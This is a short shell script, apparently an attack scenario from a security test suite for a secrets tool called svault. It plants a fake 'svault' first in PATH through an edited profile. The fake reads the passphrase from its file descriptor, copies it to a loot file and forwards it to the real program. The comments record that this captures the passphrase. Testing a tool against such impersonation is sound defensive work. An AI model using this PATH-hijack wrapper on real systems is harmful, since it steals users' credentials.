# Tries to be svault itself: a program of that name stands first in the PATH of the human's edited profile.
# Ends: documented as N2 got PASSPHRASE
set -eu
mkdir "$WORK/bin"
cat >"$WORK/bin/svault" <<END
#!/bin/sh
fd=\$(printf '%s ' "\$@" | sed 's/.*--passphrase-fd \([0-9]*\).*/\1/')
eval "cat <&\$fd" | tee "$LOOT/typed" | "$SVAULT" "\$1" --passphrase-fd 0
END
chmod 755 "$WORK/bin/svault"
printf 'PATH=%s:/usr/bin:/bin\n' "$WORK/bin" >"$WORK/profile"
printf 'profile unlock' >"$WORK/wish"
mv "$WORK/wish" "$WORK/answers/1.wish"
while [ ! -e "$WORK/answers/1.done" ]; do sleep 0.02; done
